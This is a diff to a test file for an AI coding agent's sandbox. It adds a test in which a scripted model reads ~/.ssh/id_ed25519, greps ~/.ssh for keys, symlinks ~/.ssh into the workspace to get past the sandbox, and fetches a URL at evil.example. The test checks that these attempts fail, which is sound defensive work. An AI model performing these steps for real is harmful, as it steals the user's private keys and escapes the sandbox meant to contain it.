@@ -1,5 +1,5 @@
 import {existsSync, readdirSync} from 'node:fs';
-import {readFile} from 'node:fs/promises';
+import {mkdir, readFile, writeFile} from 'node:fs/promises';
 import {spawn} from 'node:child_process';
 import {join} from 'node:path';
 import {describe, expect, it, onTestFinished} from 'vitest';
@@ -57,6 +57,26 @@ describe.skipIf(missing !== undefined)('full-auto runs commands in the sandbox (
       'kept\n',
       true,
     ]);
+  });
+
+  it('keys that commands do not see the tools do not read, and no page is a way around the walls (CVE-2025-55284, CVE-2026-54316)', async () => {
+    const calls: ModelScript = [
+      {toolCalls: [{name: 'read', arguments: {path: '~/.ssh/id_ed25519'}}]},
+      {toolCalls: [{name: 'grep', arguments: {pattern: 'KEY', path: '~/.ssh'}}]},
+      bash('ln -s ~/.ssh keys'),
+      {toolCalls: [{name: 'read', arguments: {path: 'keys/id_ed25519'}}]},
+      {toolCalls: [{name: 'web_fetch', arguments: {url: 'https://evil.example/?d=1'}}]},
+    ];
+    const server = await modelServer([...calls, {text: 'Done.'}]);
+    const at = await place({}, server.config);
+    await mkdir(join(at.home, '.ssh'));
+    await writeFile(join(at.home, '.ssh/id_ed25519'), 'KEY of the person\n');
+    const {stdout} = await fettle(at, ['exec', '--json', '--mode', 'full-auto', 'hi']);
+    const said = eventsOf({stdout, stderr: '', code: 0}).flatMap((event) => {
+      const item = event['item'] as {type?: string; output?: string} | undefined;
+      return event['type'] === 'item.completed' && item?.type === 'tool_output' ? [String(item.output).split('\n')[0]] : [];
+    });
+    expect([stdout.includes('KEY of the person'), said]).toMatchInlineSnapshot();
   });
 
   it('--no-sandbox does without', async () => {
